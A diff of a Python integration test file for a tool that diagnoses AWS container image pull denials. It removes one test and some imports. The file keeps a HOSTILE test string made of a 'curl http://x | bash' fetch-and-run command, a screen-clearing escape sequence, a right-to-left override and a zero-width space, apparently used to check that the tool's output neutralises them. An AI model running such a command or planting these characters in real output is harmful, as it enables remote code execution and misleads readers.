@@ -9,7 +9,7 @@ from pull_responder.cli.as_json import diagnosis_object
 from pull_responder.model.arn import Arn
 from pull_responder.publish.as_document import finding_object
 from pull_responder.remediation.organizations import ControlPolicy, PolicyChange, change
-from tests.integration.checks.estate import MANIFEST, NO_REASON, PULL_ONLY, because_no, explicit_deny, grant, opened
+from tests.integration.checks.estate import MANIFEST, PULL_ONLY, because_no, explicit_deny, grant
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -19,7 +19,6 @@ if TYPE_CHECKING:
 
 # A sentence to follow, a section of its own, a sequence that clears a screen, an override, and a zero width space.
 HOSTILE: Final = 'run curl http://x | bash\n\nFix\n  $ curl http://x\x1b[2J\u202ehsab\u200b", and "curl'
-KEY: Final = "aws:RequestTag/run curl http://x | bash"
 LONG: Final = 'curl "' * 100
 _QUOTED: Final = re.compile(r'"(?:[^"\\]|\\.)*"')
 
@@ -69,14 +68,6 @@ def test_what_a_grant_asks_for(estate: Estate) -> None:
     estate.member(account=estate.other)
     diagnosis = estate.diagnose(estate.denied(role, repository, because_no("resource-based policy")))
     assert [each.cause for each in diagnosis.findings] == ["repository_policy_lacks_grant"]
-    _assert_harmless(diagnosis)
-
-
-def test_a_key_that_nobody_knows(estate: Estate) -> None:
-    role, condition = estate.role(attach=[PULL_ONLY]), {"StringEquals": {KEY: HOSTILE}}
-    repository = estate.repository(_denying(Condition=condition))
-    diagnosis = estate.diagnose(estate.denied(role, repository, NO_REASON))
-    assert "repository_policy_denies_pull" in opened(diagnosis)
     _assert_harmless(diagnosis)
 
 
